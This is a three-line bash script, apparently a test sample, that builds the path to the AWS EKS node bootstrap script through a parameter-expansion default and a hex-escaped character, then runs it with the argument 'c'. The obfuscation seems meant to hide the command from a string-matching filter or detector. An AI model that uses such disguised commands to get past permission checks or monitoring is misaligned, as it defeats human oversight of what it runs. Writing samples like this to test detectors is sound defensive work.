#!/bin/bash
x="${none:=$'/etc/eks/b\x6fotstrap.sh'}"
$x c
